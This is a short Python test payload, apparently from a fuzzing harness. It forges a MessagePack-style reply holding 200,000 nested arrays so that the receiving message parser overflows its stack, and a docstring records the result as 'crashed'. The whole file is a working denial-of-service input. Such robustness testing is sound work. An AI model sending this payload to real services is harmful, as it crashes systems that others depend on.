"""Sends two hundred thousand lists in lists, on which a reader of messages runs out of stack.

Outcome of entropy: crashed
"""

import struct


NESTED = b"\x92\xa1l\x91" * 200_000 + b"\xc0"


def forged(request):
    head = b"\x94\xa8returned\xcf" + struct.pack(">Q", request.nonce) + NESTED + b"\x93\x90\xa0\x90"
    return struct.pack("<II", len(head), 0) + head


reply_with(forged)
